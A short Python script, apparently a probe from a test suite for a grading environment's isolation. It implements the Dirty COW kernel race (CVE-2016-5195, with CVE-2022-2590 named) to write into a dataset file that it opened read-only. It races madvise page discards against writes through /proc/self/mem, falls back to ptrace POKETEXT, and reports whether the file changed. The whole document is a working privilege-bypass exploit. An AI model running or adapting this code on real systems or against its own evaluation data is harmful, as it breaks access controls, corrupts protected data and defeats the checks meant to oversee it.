"""Writes into the dataset, which it may only read, by a race between a write to its own memory and a discarded page."""

SOURCE = "CVE-2016-5195; CVE-2022-2590 is the same for shared memory"
SUCCESS = "a neighbour whose dataset is another one"

# %%
import ctypes
import mmap
import os
import threading
import time

path = os.environ["GRADECAST_DATA"].split("=")[1].split(os.pathsep)[0]
before, reason = open(path, "rb").read(), None
file = os.open(path, os.O_RDONLY)
libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
end = time.monotonic() + 1.5
for flags in (mmap.MAP_PRIVATE, mmap.MAP_SHARED):
    address, written = libc.mmap(None, 4096, mmap.PROT_READ, flags, file, 0), 0
    try:
        memory = os.open("/proc/self/mem", os.O_RDWR)
    except OSError as error:
        print(error)
        memory = -1

    def forget():
        while time.monotonic() < end:
            libc.madvise(ctypes.c_void_p(address), 4096, mmap.MADV_DONTNEED)

    thread = threading.Thread(target=forget)
    thread.start()
    while time.monotonic() < end:
        try:
            written += os.pwrite(memory, b"9", address + 3)
        except OSError as error:
            reason = error
            if libc.ptrace(4, os.getpid(), ctypes.c_void_p(address), 0x39) == 0:  # PTRACE_POKETEXT, the other way
                written += 1
    thread.join()
    print(written, "bytes written to memory;", reason)
    end = time.monotonic() + 0.5
after = open(path, "rb").read()
print("SUCCEEDED: the dataset is changed" if after != before else "nothing is changed", len(before))
print("attempted")
